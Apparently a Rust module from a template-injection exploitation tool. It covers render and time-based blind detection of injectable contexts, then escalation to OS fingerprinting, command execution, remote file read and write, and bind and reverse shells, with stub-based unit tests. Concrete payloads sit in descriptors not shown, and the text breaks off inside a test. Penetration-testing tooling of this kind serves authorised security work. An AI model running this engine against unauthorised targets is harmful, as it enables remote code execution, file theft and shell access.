//! The behaviour side of a plugin: the injection primitives (§4.C), the
//! detection state machine (§4.D), escalation bookkeeping (§4.E) and the
//! file transfer protocol (§4.F). A `PluginDescriptor` is pure data; a
//! `PluginRuntime` pairs one with a `Channel` and a `TimingModel` and does
//! the actual talking to the target.

use std::sync::{Arc, Mutex};
use std::time::Instant;

use regex::Regex;

use crate::context::generate_contexts;
use crate::plugin::descriptor::{Call, PluginDescriptor, ShellAction};
use crate::plugin::template::TemplateVars;
use crate::session::{Channel, ChannelError};
use crate::timing::TimingModel;
use crate::util;

/// How a render call's header/trailer should be resolved (§4.C).
#[derive(Debug, Clone)]
pub enum Framing {
    /// Not supplied; fall back to the session value, then the plugin's own
    /// `render` action template.
    Default,
    /// Explicitly skip framing for this call.
    Skip,
    /// Use exactly this template, bypassing session and action defaults.
    Template(String),
}

/// Per-call overrides for `PluginRuntime::render`. Everything defaults to
/// "fall back to session state", matching how capability calls behave once
/// a context has already been detected and committed.
#[derive(Debug, Clone)]
pub struct RenderKwargs {
    pub header: Framing,
    pub trailer: Framing,
    pub header_rand: Option<[u32; 2]>,
    pub trailer_rand: Option<[u32; 2]>,
    pub prefix: Option<String>,
    pub suffix: Option<String>,
    pub wrapper: Option<String>,
    pub blind: bool,
}

impl Default for RenderKwargs {
    fn default() -> Self {
        Self {
            header: Framing::Default,
            trailer: Framing::Default,
            header_rand: None,
            trailer_rand: None,
            prefix: None,
            suffix: None,
            wrapper: None,
            blind: false,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum InjectOutcome {
    Render(Option<String>),
    Blind(bool),
}

/// Outcome of the `render` primitive (§4.C): the framed and extracted body
/// for a non-blind call, or a hit/miss for a blind one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RenderOutcome {
    Render(Option<String>),
    Blind(bool),
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum DispatchOutcome {
    Render(Option<String>),
    Blind(bool),
}

/// Extract the text strictly between `header_expected` and
/// `trailer_expected`. Per §4.C: when either framer is absent the raw body
/// is returned untouched; when both are present but either marker cannot
/// be located, the response is treated as a non-match (empty string).
fn extract_between(body: &str, header_expected: Option<&str>, trailer_expected: Option<&str>) -> String {
    match (header_expected, trailer_expected) {
        (Some(h), Some(t)) => match body.find(h) {
            Some(idx) => {
                let after = &body[idx + h.len()..];
                match after.find(t) {
                    Some(tidx) => after[..tidx].trim().to_string(),
                    None => String::new(),
                }
            }
            None => String::new(),
        },
        _ => body.trim().to_string(),
    }
}

/// Pairs a static plugin descriptor with the channel it talks through and
/// the rolling timing model it maintains across calls.
pub struct PluginRuntime {
    descriptor: Arc<PluginDescriptor>,
    channel: Arc<dyn Channel>,
    timing: Mutex<TimingModel>,
}

impl PluginRuntime {
    pub fn new(descriptor: Arc<PluginDescriptor>, channel: Arc<dyn Channel>) -> Self {
        let args = channel.args();
        let timing = TimingModel::new(args.time_based_blind_delay, args.time_based_verify_blind_delay);
        Self {
            descriptor,
            channel,
            timing: Mutex::new(timing),
        }
    }

    pub fn descriptor(&self) -> &PluginDescriptor {
        &self.descriptor
    }

    fn expected_delay(&self) -> u64 {
        let blind_test = self.channel.get_bool("blind_test", false);
        self.timing.lock().unwrap().expected_delay(blind_test)
    }

    fn compose(prefix: &str, suffix: &str, wrapper: &str, code: &str) -> String {
        let wrapped = TemplateVars {
            code: Some(code),
            ..Default::default()
        }
        .render(wrapper);
        format!("{prefix}{wrapped}{suffix}")
    }

    /// Submit a literal injection string and either wait out a timed probe
    /// or read back the response body (§4.C, the `inject` primitive).
    async fn send(&self, injection: &str, blind: bool) -> Result<InjectOutcome, ChannelError> {
        if blind {
            let expected = self.expected_delay();
            let start = Instant::now();
            self.channel.req(injection).await?;
            let delta = start.elapsed().as_secs();
            Ok(InjectOutcome::Blind(delta >= expected))
        } else {
            let start = Instant::now();
            let body = self.channel.req(injection).await?;
            let elapsed = start.elapsed().as_secs_f64();
            {
                let mut timing = self.timing.lock().unwrap();
                timing.append(elapsed);
                let blind_test = self.channel.get_bool("blind_test", false);
                if timing.check_variance(blind_test) {
                    tracing::warn!(
                        plugin = %self.descriptor.name,
                        "response timing varies widely; blind detection may be unreliable"
                    );
                }
            }
            let trimmed = body.trim();
            Ok(InjectOutcome::Render(if trimmed.is_empty() {
                None
            } else {
                Some(trimmed.to_string())
            }))
        }
    }

    async fn inject_with(
        &self,
        prefix: &str,
        suffix: &str,
        wrapper: &str,
        code: &str,
        blind: bool,
    ) -> Result<InjectOutcome, ChannelError> {
        self.send(&Self::compose(prefix, suffix, wrapper, code), blind).await
    }

    fn resolve_framing(&self, framing: &Framing, action_value: Option<&str>) -> Option<String> {
        match framing {
            Framing::Skip => None,
            Framing::Template(t) => Some(t.clone()),
            Framing::Default => self
                .channel
                .get_str("header")
                .or_else(|| action_value.map(|s| s.to_string())),
        }
    }

    /// The framed execution probe (§4.C): wraps `code` between a header and
    /// trailer with independent random arithmetic, submits it, and on a
    /// non-blind call extracts the content strictly between the two
    /// evaluated markers.
    pub async fn render(&self, code: &str, kwargs: RenderKwargs) -> Result<RenderOutcome, ChannelError> {
        let render_action = match &self.descriptor.actions.render {
            Some(a) => a.clone(),
            None => return Ok(RenderOutcome::Render(None)),
        };

        let header_rand = kwargs.header_rand.unwrap_or_else(util::rand_pair);
        let trailer_rand = kwargs.trailer_rand.unwrap_or_else(util::rand_pair);

        let header_template = self.resolve_framing(&kwargs.header, render_action.header.as_deref());
        let trailer_template = match &kwargs.trailer {
            Framing::Skip => None,
            Framing::Template(t) => Some(t.clone()),
            Framing::Default => self
                .channel
                .get_str("trailer")
                .or_else(|| render_action.trailer.clone()),
        };

        let header = header_template
            .as_deref()
            .map(|t| {
                TemplateVars {
                    header_rand: Some(header_rand),
                    ..Default::default()
                }
                .render(t)
            })
            .unwrap_or_default();
        let trailer = trailer_template
            .as_deref()
            .map(|t| {
                TemplateVars {
                    trailer_rand: Some(trailer_rand),
                    ..Default::default()
                }
                .render(t)
            })
            .unwrap_or_default();

        let payload = TemplateVars {
            code: Some(code),
            ..Default::default()
        }
        .render(&render_action.render);

        let prefix = kwargs
            .prefix
            .clone()
            .unwrap_or_else(|| self.channel.get_str("prefix").unwrap_or_default());
        let suffix = kwargs
            .suffix
            .clone()
            .unwrap_or_else(|| self.channel.get_str("suffix").unwrap_or_default());
        let wrapper = kwargs
            .wrapper
            .clone()
            .unwrap_or_else(|| self.channel.get_str("wrapper").unwrap_or_else(|| "{code}".to_string()));

        let wrap = |body: &str| {
            TemplateVars {
                code: Some(body),
                ..Default::default()
            }
            .render(&wrapper)
        };

        let injection = format!("{}{}{}{}{}", prefix, wrap(&header), wrap(&payload), wrap(&trailer), suffix);

        match self.send(&injection, kwargs.blind).await? {
            InjectOutcome::Blind(hit) => Ok(RenderOutcome::Blind(hit)),
            InjectOutcome::Render(None) => Ok(RenderOutcome::Render(None)),
            InjectOutcome::Render(Some(body)) => {
                let header_expected = header_template
                    .as_ref()
                    .map(|_| self.descriptor.header_type.expected(header_rand));
                let trailer_expected = trailer_template
                    .as_ref()
                    .map(|_| self.descriptor.header_type.expected(trailer_rand));
                let extracted = extract_between(&body, header_expected.as_deref(), trailer_expected.as_deref());
                Ok(RenderOutcome::Render(if extracted.is_empty() { None } else { Some(extracted) }))
            }
        }
    }

    /// Dispatch `code` through one of the six closed primitives, honouring
    /// `ctx` as an explicit `(prefix, suffix, wrapper)` override during
    /// detection, or falling back to the committed session context once a
    /// context has already been detected. A capability whose `call` names
    /// another capability (e.g. execute-via-evaluate) is honoured as one
    /// level of indirection through `render`, which is as far as any
    /// shipped descriptor in this crate chains.
    async fn terminal_ctx(
        &self,
        call: Call,
        ctx: Option<(&str, &str, &str)>,
        code: &str,
        blind: bool,
    ) -> Result<DispatchOutcome, ChannelError> {
        match call {
            Call::Inject => {
                let (prefix, suffix, wrapper) = match ctx {
                    Some((p, s, w)) => (p.to_string(), s.to_string(), w.to_string()),
                    None => (
                        self.channel.get_str("prefix").unwrap_or_default(),
                        self.channel.get_str("suffix").unwrap_or_default(),
                        self.channel.get_str("wrapper").unwrap_or_else(|| "{code}".to_string()),
                    ),
                };
                match self.inject_with(&prefix, &suffix, &wrapper, code, blind).await? {
                    InjectOutcome::Render(r) => Ok(DispatchOutcome::Render(r)),
                    InjectOutcome::Blind(b) => Ok(DispatchOutcome::Blind(b)),
                }
            }
            Call::Render | Call::Evaluate | Call::Execute | Call::EvaluateBlind | Call::ExecuteBlind => {
                let mut kwargs = RenderKwargs {
                    blind,
                    ..Default::default()
                };
                if let Some((p, s, w)) = ctx {
                    kwargs.prefix = Some(p.to_string());
                    kwargs.suffix = Some(s.to_string());
                    kwargs.wrapper = Some(w.to_string());
                }
                match self.render(code, kwargs).await? {
                    RenderOutcome::Render(r) => Ok(DispatchOutcome::Render(r)),
                    RenderOutcome::Blind(b) => Ok(DispatchOutcome::Blind(b)),
                }
            }
        }
    }

    async fn terminal(&self, call: Call, code: &str, blind: bool) -> Result<DispatchOutcome, ChannelError> {
        self.terminal_ctx(call, None, code, blind).await
    }

    /// Commit a confirmed render hit and run capability escalation (§4.E):
    /// fingerprint the OS via `evaluate`, flag `read`/`write` if declared,
    /// and probe `execute` against its `test_cmd` to unlock shells.
    async fn rendered_detected(
        &self,
        prefix: &str,
        suffix: &str,
        wrapper: &str,
        header: Option<String>,
        trailer: Option<String>,
    ) -> Result<(), ChannelError> {
        self.channel.set_str("prefix", prefix.to_string());
        self.channel.set_str("suffix", suffix.to_string());
        self.channel.set_str("wrapper", wrapper.to_string());
        match header {
            Some(h) => self.channel.set_str("header", h),
            None => self.channel.delete("header"),
        }
        match trailer {
            Some(t) => self.channel.set_str("trailer", t),
            None => self.channel.delete("trailer"),
        }
        self.channel.delete("unreliable_render");
        self.channel.delete("unreliable");
        self.channel.set_bool("detected", true);
        self.channel.set_str("engine", self.descriptor.name.clone());
        self.channel.set_str("language", self.descriptor.language.clone());
        self.channel.detected(
            "render",
            serde_json::json!({
                "engine": self.descriptor.name,
                "prefix": prefix,
                "suffix": suffix,
                "wrapper": wrapper,
            }),
        );

        if let Some(evaluate_action) = self.descriptor.actions.evaluate.clone() {
            if let (Some(test_os), Some(test_os_expected)) = (evaluate_action.test_os, evaluate_action.test_os_expected) {
                if let Some(os) = self.evaluate(&test_os).await? {
                    if regex_find(&test_os_expected, &os).is_some() {
                        self.channel.set_str("os", os);
                        self.channel.set_str("evaluate", self.descriptor.language.clone());
                        if self.descriptor.actions.write.is_some() {
                            self.channel.set_bool("write", true);
                        }
                        if self.descriptor.actions.read.is_some() {
                            self.channel.set_bool("read", true);
                        }
                        if let Some(execute_action) = self.descriptor.actions.execute.clone() {
                            if let (Some(test_cmd), Some(test_cmd_expected)) = (execute_action.test_cmd, execute_action.test_cmd_expected) {
                                if let Some(output) = self.execute(&test_cmd).await? {
                                    if output.trim_end() == test_cmd_expected {
                                        self.channel.set_bool("execute", true);
                                        self.channel.set_bool("bind_shell", true);
                                        self.channel.set_bool("reverse_shell", true);
                                    }
                                }
                            }
                        }
                    }
                }
            }
        }
        Ok(())
    }

    /// Commit a confirmed blind hit and run its capability escalation
    /// (§4.E): code evaluation is already proven, so only probe whether
    /// `execute`'s `test_cmd` also works blind.
    async fn blind_detected(&self, prefix: &str, suffix: &str, wrapper: &str) -> Result<(), ChannelError> {
        self.channel.set_str("prefix", prefix.to_string());
        self.channel.set_str("suffix", suffix.to_string());
        self.channel.set_str("wrapper", wrapper.to_string());
        self.channel.delete("unreliable_render");
        self.channel.delete("unreliable");
        self.channel.set_bool("detected", true);
        self.channel.set_bool("blind", true);
        self.channel.set_str("engine", self.descriptor.name.clone());
        self.channel.set_str("language", self.descriptor.language.clone());
        self.channel.detected(
            "blind",
            serde_json::json!({
                "engine": self.descriptor.name,
                "prefix": prefix,
                "suffix": suffix,
                "wrapper": wrapper,
            }),
        );

        self.channel.set_str("evaluate_blind", self.descriptor.language.clone());
        if let Some(test_cmd) = self.descriptor.actions.execute.as_ref().and_then(|a| a.test_cmd.clone()) {
            if self.execute_blind(&test_cmd).await? {
                self.channel.set_bool("execute_blind", true);
                self.channel.set_bool("write", true);
                self.channel.set_bool("bind_shell", true);
                self.channel.set_bool("reverse_shell", true);
            }
        }
        Ok(())
    }

    /// Try the framed test payload across every reachable context, falling
    /// back to an unframed, substring-matched probe when the engine has no
    /// header/trailer pair (§4.D).
    pub async fn detect_render(&self) -> Result<bool, ChannelError> {
        let render_action = match &self.descriptor.actions.render {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        if self.channel.get_bool("detected", false) && !self.channel.args().force_overwrite {
            return Ok(false);
        }
        let args = self.channel.args().clone();
        let contexts = generate_contexts(&self.descriptor.contexts, args.level, args.force_level);

        if let (Some(header), Some(trailer)) = (render_action.header.clone(), render_action.trailer.clone()) {
            for (prefix, suffix, wrapper) in &contexts {
                let kwargs = RenderKwargs {
                    prefix: Some(prefix.clone()),
                    suffix: Some(suffix.clone()),
                    wrapper: Some(wrapper.clone()),
                    header: Framing::Template(header.clone()),
                    trailer: Framing::Template(trailer.clone()),
                    ..Default::default()
                };
                if let RenderOutcome::Render(Some(body)) = self.render(&render_action.test_render, kwargs).await? {
                    if body == render_action.test_render_expected {
                        self.rendered_detected(prefix, suffix, wrapper, Some(header), Some(trailer)).await?;
                        return Ok(true);
                    }
                }
            }
        }
        self.detect_unreliable_render().await
    }

    /// Unframed fallback (§4.D): a single unframed, prefix/suffix-less probe
    /// looking for the expected fragment as a substring of the raw
    /// response. Useful signal that the engine is echoing, but never
    /// actionable on its own — it must not set `engine`/`detected` or emit a
    /// detection event (§3 invariant (i), scenario S2).
    pub async fn detect_unreliable_render(&self) -> Result<bool, ChannelError> {
        let render_action = match &self.descriptor.actions.render {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        let kwargs = RenderKwargs {
            prefix: Some(String::new()),
            suffix: Some(String::new()),
            wrapper: Some("{code}".to_string()),
            header: Framing::Skip,
            trailer: Framing::Skip,
            ..Default::default()
        };
        if let RenderOutcome::Render(Some(body)) = self.render(&render_action.test_render, kwargs).await? {
            if body.contains(&render_action.test_render_expected) {
                if self.channel.get_str("unreliable_render").is_none() {
                    tracing::info!(plugin = %self.descriptor.name, tag = %render_action.render, "unreliable rendering detected, skipping");
                }
                self.channel.set_str("unreliable_render", render_action.render.clone());
                self.channel.set_str("unreliable", self.descriptor.name.clone());
            }
        }
        Ok(false)
    }

    /// Time-based blind detection (§4.D): a context only counts once its
    /// "true" probe delays, its "false" probe does not, and a second,
    /// budget-widened re-check of the "true" probe still delays.
    pub async fn detect_blind(&self) -> Result<bool, ChannelError> {
        let blind_action = match &self.descriptor.actions.blind {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        if self.channel.get_bool("detected", false) && !self.channel.args().force_overwrite {
            return Ok(false);
        }
        let args = self.channel.args().clone();
        let contexts = generate_contexts(&self.descriptor.contexts, args.level, args.force_level);
        self.channel.set_bool("blind_test", false);

        for (prefix, suffix, wrapper) in &contexts {
            let delay = self.expected_delay();
            let true_code = TemplateVars {
                delay: Some(delay),
                ..Default::default()
            }
            .render(&blind_action.test_bool_true);
            let false_code = TemplateVars {
                delay: Some(delay),
                ..Default::default()
            }
            .render(&blind_action.test_bool_false);

            let hit_true = matches!(
                self.terminal_ctx(blind_action.call, Some((prefix, suffix, wrapper)), &true_code, true)
                    .await?,
                DispatchOutcome::Blind(true)
            );
            if !hit_true {
                continue;
            }
            let hit_false = matches!(
                self.terminal_ctx(blind_action.call, Some((prefix, suffix, wrapper)), &false_code, true)
                    .await?,
                DispatchOutcome::Blind(true)
            );
            if hit_false {
                continue;
            }
            self.channel.set_bool("blind_test", true);
            let reverified = matches!(
                self.terminal_ctx(blind_action.call, Some((prefix, suffix, wrapper)), &true_code, true)
                    .await?,
                DispatchOutcome::Blind(true)
            );
            self.channel.set_bool("blind_test", false);
            if reverified {
                self.blind_detected(prefix, suffix, wrapper).await?;
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// Run whichever techniques the session's `Args` request, skipping
    /// blind detection once render detection already won (§3 invariant:
    /// "detected" only ever transitions false to true once).
    pub async fn detect(&self) -> Result<bool, ChannelError> {
        let args = self.channel.args().clone();
        let mut any = false;
        if args.wants_render() && self.detect_render().await? {
            any = true;
        }
        if args.wants_blind() && !self.channel.get_bool("detected", false) && self.detect_blind().await? {
            any = true;
        }
        Ok(any)
    }

    /// Evaluate a host-language expression and read back its textual
    /// result (§4.C capability escalation, step 1).
    pub async fn evaluate(&self, code: &str) -> Result<Option<String>, ChannelError> {
        let action = match &self.descriptor.actions.evaluate {
            Some(a) => a.clone(),
            None => return Ok(None),
        };
        let wrapped = TemplateVars {
            code: Some(code),
            code_b64: Some(util::url_safe_base64_encode(code)),
            code_b64p: Some(util::base64_encode(code)),
            ..Default::default()
        }
        .render(&action.evaluate);
        match self.terminal(action.call, &wrapped, false).await? {
            DispatchOutcome::Render(r) => Ok(r),
            DispatchOutcome::Blind(_) => Ok(None),
        }
    }

    /// Run an OS command and read back its output (step 2's follow-up,
    /// after fingerprinting picks a shell syntax).
    pub async fn execute(&self, command: &str) -> Result<Option<String>, ChannelError> {
        let action = match &self.descriptor.actions.execute {
            Some(a) => a.clone(),
            None => return Ok(None),
        };
        let wrapped = TemplateVars {
            code: Some(command),
            code_b64: Some(util::url_safe_base64_encode(command)),
            code_b64p: Some(util::base64_encode(command)),
            ..Default::default()
        }
        .render(&action.execute);
        match self.terminal(action.call, &wrapped, false).await? {
            DispatchOutcome::Render(r) => Ok(r),
            DispatchOutcome::Blind(_) => Ok(None),
        }
    }

    pub async fn evaluate_blind(&self, code: &str) -> Result<bool, ChannelError> {
        let action = match &self.descriptor.actions.evaluate_blind {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        let delay = self.expected_delay();
        let wrapped = TemplateVars {
            code: Some(code),
            code_b64: Some(util::url_safe_base64_encode(code)),
            code_b64p: Some(util::base64_encode(code)),
            delay: Some(delay),
            ..Default::default()
        }
        .render(&action.evaluate_blind);
        match self.terminal(action.call, &wrapped, true).await? {
            DispatchOutcome::Blind(hit) => Ok(hit),
            DispatchOutcome::Render(_) => Ok(false),
        }
    }

    pub async fn execute_blind(&self, command: &str) -> Result<bool, ChannelError> {
        let action = match &self.descriptor.actions.execute_blind {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        let delay = self.expected_delay();
        let wrapped = TemplateVars {
            code: Some(command),
            code_b64: Some(util::url_safe_base64_encode(command)),
            code_b64p: Some(util::base64_encode(command)),
            delay: Some(delay),
            ..Default::default()
        }
        .render(&action.execute_blind);
        match self.terminal(action.call, &wrapped, true).await? {
            DispatchOutcome::Blind(hit) => Ok(hit),
            DispatchOutcome::Render(_) => Ok(false),
        }
    }

    /// Evaluate the engine's `test_os`/`test_cmd` probe and extract the OS
    /// family from the response, preferring the evaluate-side probe.
    pub async fn fingerprint_os(&self) -> Result<Option<String>, ChannelError> {
        if let Some(action) = self.descriptor.actions.evaluate.clone() {
            if let (Some(test_os), Some(expected)) = (action.test_os, action.test_os_expected) {
                if let Some(body) = self.evaluate(&test_os).await? {
                    if let Some(found) = regex_find(&expected, &body) {
                        return Ok(Some(found));
                    }
                }
            }
        }
        if let Some(action) = self.descriptor.actions.execute.clone() {
            if let (Some(test_cmd), Some(expected)) = (action.test_cmd, action.test_cmd_expected) {
                if let Some(body) = self.execute(&test_cmd).await? {
                    if let Some(found) = regex_find(&expected, &body) {
                        return Ok(Some(found));
                    }
                }
            }
        }
        Ok(None)
    }

    pub async fn md5(&self, path: &str) -> Result<Option<String>, ChannelError> {
        let action = match &self.descriptor.actions.md5 {
            Some(a) => a.clone(),
            None => return Ok(None),
        };
        let wrapped = TemplateVars {
            path: Some(path),
            ..Default::default()
        }
        .render(&action.md5);
        let body = match self.terminal(action.call, &wrapped, false).await? {
            DispatchOutcome::Render(Some(body)) => body,
            _ => return Ok(None),
        };
        let digest = body.trim().to_lowercase();
        if digest.len() == 32 && digest.chars().all(|c| c.is_ascii_hexdigit()) {
            Ok(Some(digest))
        } else {
            Ok(None)
        }
    }

    /// Fetch a remote file and verify it against the engine's own `md5`
    /// payload before trusting it (§4.F): aborts if the remote can't report
    /// an MD5 at all, but returns the decoded bytes either way once it can.
    pub async fn read(&self, path: &str) -> Result<Option<Vec<u8>>, ChannelError> {
        let action = match &self.descriptor.actions.read {
            Some(a) => a.clone(),
            None => return Ok(None),
        };
        let md5_remote = match self.md5(path).await? {
            Some(digest) => digest,
            None => {
                tracing::warn!(plugin = %self.descriptor.name, path, "remote md5 unavailable, aborting read");
                return Ok(None);
            }
        };
        let wrapped = TemplateVars {
            path: Some(path),
            ..Default::default()
        }
        .render(&action.read);
        let body = match self.terminal(action.call, &wrapped, false).await? {
            DispatchOutcome::Render(Some(body)) => body,
            _ => return Ok(None),
        };
        match util::base64_decode(&body) {
            Ok(bytes) => {
                if util::md5_hex(&bytes) == md5_remote {
                    tracing::info!(plugin = %self.descriptor.name, path, "read verified against remote md5");
                } else {
                    tracing::warn!(plugin = %self.descriptor.name, path, "read data does not match remote md5");
                }
                Ok(Some(bytes))
            }
            Err(err) => {
                tracing::warn!(plugin = %self.descriptor.name, error = %err, "read payload was not valid base64");
                Ok(None)
            }
        }
    }

    /// Chunked, MD5-verified upload (§4.F): refuses to clobber an existing
    /// remote file or write blind without `--force-overwrite`, then
    /// optionally truncates the target and appends base64 chunks of at
    /// most `util::WRITE_CHUNK_SIZE` bytes, confirming success via `md5`
    /// when the session isn't blind.
    pub async fn write(&self, path: &str, data: &[u8]) -> Result<bool, ChannelError> {
        let action = match &self.descriptor.actions.write {
            Some(a) => a.clone(),
            None => return Ok(false),
        };
        let is_blind = self.channel.get_bool("blind", false);
        let remote_md5 = self.md5(path).await?;
        if (remote_md5.is_some() || is_blind) && !self.channel.args().force_overwrite {
            tracing::warn!(plugin = %self.descriptor.name, path, "refusing to overwrite without --force-overwrite");
            return Ok(false);
        }
        if !is_blind {
            if let Some(truncate) = &action.truncate {
                let wrapped = TemplateVars {
                    path: Some(path),
                    ..Default::default()
                }
                .render(truncate);
                self.terminal(action.call, &wrapped, false).await?;
            }
        }
        for chunk in util::chunk_seq(data, util::WRITE_CHUNK_SIZE) {
            let wrapped = TemplateVars {
                path: Some(path),
                chunk_b64: Some(util::url_safe_base64_encode_bytes(chunk)),
                chunk_b64p: Some(util::base64_encode_bytes(chunk)),
                ..Default::default()
            }
            .render(&action.write);
            self.terminal(action.call, &wrapped, false).await?;
        }
        if is_blind {
            tracing::warn!(plugin = %self.descriptor.name, path, "wrote blind, cannot verify remote contents");
            return Ok(true);
        }
        match self.md5(path).await? {
            Some(remote) => Ok(remote == util::md5_hex(data)),
            None => Ok(false),
        }
    }

    async fn try_shell_templates(&self, action: Option<&ShellAction>, vars: TemplateVars<'_>) -> Result<bool, ChannelError> {
        let action = match action {
            Some(a) => a,
            None => return Ok(false),
        };
        for template in &action.templates {
            let wrapped = vars.render(template);
            self.terminal(action.call, &wrapped, false).await?;
        }
        Ok(!action.templates.is_empty())
    }

    pub async fn bind_shell(&self, port: u16) -> Result<bool, ChannelError> {
        self.try_shell_templates(
            self.descriptor.actions.bind_shell.as_ref(),
            TemplateVars {
                port: Some(port),
                ..Default::default()
            },
        )
        .await
    }

    pub async fn reverse_shell(&self, host: &str, port: u16) -> Result<bool, ChannelError> {
        self.try_shell_templates(
            self.descriptor.actions.reverse_shell.as_ref(),
            TemplateVars {
                host: Some(host),
                port: Some(port),
                ..Default::default()
            },
        )
        .await
    }
}

fn regex_find(pattern: &str, haystack: &str) -> Option<String> {
    match Regex::new(pattern) {
        Ok(re) => re.find(haystack).map(|m| m.as_str().to_string()),
        Err(err) => {
            tracing::warn!(pattern, error = %err, "invalid fingerprint regex in plugin descriptor");
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::ContextDescriptor;
    use crate::plugin::descriptor::{HeaderType, Md5Action, PluginDescriptor, RenderAction, WriteAction};
    use crate::session::{Args, DetectionEvent, SessionData, SessionValue};
    use base64::Engine as _;
    use std::collections::HashMap;

    struct StubChannel {
        args: Args,
        data: Mutex<SessionData>,
        events: Mutex<Vec<DetectionEvent>>,
        handler: Box<dyn Fn(&str) -> String + Send + Sync>,
    }

    impl StubChannel {
        fn new(args: Args, handler: impl Fn(&str) -> String + Send + Sync + 'static) -> Self {
            Self {
                args,
                data: Mutex::new(SessionData::new()),
                events: Mutex::new(Vec::new()),
                handler: Box::new(handler),
            }
        }
    }

    #[async_trait::async_trait]
    impl Channel for StubChannel {
        async fn req(&self, injection: &str) -> Result<String, ChannelError> {
            Ok((self.handler)(injection))
        }

        fn args(&self) -> &Args {
            &self.args
        }

        fn get(&self, key: &str) -> Option<SessionValue> {
            self.data.lock().unwrap().get(key)
        }

        fn set(&self, key: &str, value: SessionValue) {
            self.data.lock().unwrap().set(key, value);
        }

        fn delete(&self, key: &str) {
            self.data.lock().unwrap().delete(key);
        }

        fn detected(&self, kind: &str, detail: serde_json::Value) {
            self.events.lock().unwrap().push(DetectionEvent {
                kind: kind.to_string(),
                detail,
            });
        }

        fn events(&self) -> Vec<DetectionEvent> {
            self.events.lock().unwrap().clone()
        }
    }

    fn echo_handler(injection: &str) -> String {
        let re_h = Regex::new(r"H(\d+)\+(\d+)H").unwrap();
        let re_t = Regex::new(r"T(\d+)\+(\d+)T").unwrap();
        if let (Some(hc), Some(tc)) = (re_h.captures(injection), re_t.captures(injection)) {
            let h: u32 = hc[1].parse::<u32>().unwrap() + hc[2].parse::<u32>().unwrap();
            let t: u32 = tc[1].parse::<u32>().unwrap() + tc[2].parse::<u32>().unwrap();
            let body = if injection.contains("9*9") { "81" } else { "0" };
            return format!("{h}{body}{t}");
        }
        if injection.starts_with("MD5:") {
            return "d41d8cd98f00b204e9800998ecf8427e".to_string();
        }
        if injection.starts_with("WRITE:") || injection.starts_with("TRUNC:") {
            return "ok".to_string();
        }
        String::new()
    }

    fn echo_descriptor() -> PluginDescriptor {
        let mut d = PluginDescriptor::new("toy", "echo", 1);
        d.header_type = HeaderType::Add;
        d.actions.render = Some(RenderAction {
            render: "{code}".to_string(),
            header: Some("H{header[0]}+{header[1]}H".to_string()),
            trailer: Some("T{trailer[0]}+{trailer[1]}T".to_string()),
            test_render: "9*9".to_string(),
            test_render_expected: "81".to_string(),
        });
        d.actions.md5 = Some(Md5Action {
            call: Call::Inject,
            md5: "MD5:{path}".to_string(),
        });
        d.actions.write = Some(WriteAction {
            call: Call::Inject,
            write: "WRITE:{path}:{chunk_b64}".to_string(),
            truncate: Some("TRUNC:{path}".to_string()),
        });
        d.contexts = vec![ContextDescriptor {
            level: 0,
            prefix: None,
            suffix: String::new(),
            wrappers: vec![],
            closures: HashMap::new(),
        }];
        d
    }

    #[tokio::test]
    async fn detect_render_marks_session_on_success() {
        let channel = Arc::new(StubChannel::new(Args::default(), echo_handler));
        let runtime = PluginRuntime::new(Arc::new(echo_descriptor()), channel.clone());
        assert!(runtime.detect_render().await.unwrap());
        assert!(channel.get_bool("detected", false));
        assert_eq!(channel.get_str("engine").as_deref(), Some("echo"));
    }

    /// A handler standing in for a remote file: reports "no such file" for
    /// `md5` until a `WRITE:` payload is observed, after which `md5`
    /// answers with the MD5 of whatever was last written.
    fn stateful_file_handler(written: Arc<Mutex<Option<Vec<u8>>>>) -> impl Fn(&str) -> String + Send + Sync {
        move |injection: &str| {
            if let Some(rest) = injection.strip_prefix("WRITE:/tmp/x:") {
                let chunk = base64::engine::general_purpose::STANDARD.decode(rest).unwrap_or_default();
                let mut guard = written.lock().unwrap();
                let mut buf = guard.take().unwrap_or_default();
                buf.extend_from_slice(&chunk);
                *guard = Some(buf);
                return "ok".to_string();
            }
            if injection.starts_with("TRUNC:") {
                *written.lock().unwrap() = Some(Vec::new());
                return "ok".to_string();
            }
            if injection.starts_with("MD5:") {
                return match &*written.lock().unwrap() {
                    Some(bytes) => format!("{:x}", md5::compute(bytes)),
                    None => "no such file".to_string(),
                };
            }
            String::new()
        }
    }

    #[tokio::test]
    async fn write_verifies_md5_of_empty_payload() {
        let written = Arc::new(Mutex::new(None));
        let args = Args {
            force_overwrite: true,
            ..Args::default()
        };
        let channel = Arc::new(StubChannel::new(args, stateful_file_handler(written)));
        let runtime = PluginRuntime::new(Arc::new(echo_descriptor()), channel);
        assert!(runtime.write("/tmp/x", b"").await.unwrap());
    }

    #[tokio::test]
    async fn write_rejects_mismatched_md5() {
        let wrote = Arc::new(Mutex::new(false));
        let wrote_clone = wrote.clone();
        let handler = move |injection: &str| {
            if injection.starts_with("WRITE:") {
                *wrote_clone.lock().unwrap() = true;
                return "ok".to_string();
            }
            if injection.starts_with("TRUNC:") {
                return "ok".to_string();
            }
            if injection.starts_with("MD5:") {
                return if *wrote.lock().unwrap() {
                    "ffffffffffffffffffffffffffffffff".to_string()
                } else {
                    "no such file".to_string()
                };
            }
            String::new()
        };
        let args = Args {
            force_overwrite: true,
            ..Args::default()
        };
        let channel = Arc::new(StubChannel::new(args, handler));
        let runtime = PluginRuntime::new(Arc::new(echo_descriptor()), channel);
        assert!(!runtime.write("/tmp/x", b"not empty").await.unwrap());
    }

    #[tokio::test]
    async fn write_refuses_existing_remote_without_force_overwrite() {
        let written = Arc::new(Mutex::new(Some(b"already here".to_vec())));
        let channel = Arc::new(StubChannel::new(Args::default(), stateful_file_handler(written)));
        let runtime = PluginRuntime::new(Arc::new(echo_descriptor()), channel);
        assert!(!runtime.write("/tmp/x", b"payload").await.unwrap());
    }

    #[tokio::test]
    async fn write_overwrites_existing_remote_when_forced() {
        let written = Arc::new(Mutex::new(Some(b"already here".to_vec())));
        let args = Args {
            force_overwrite: true,
            ..Args::default()
        };
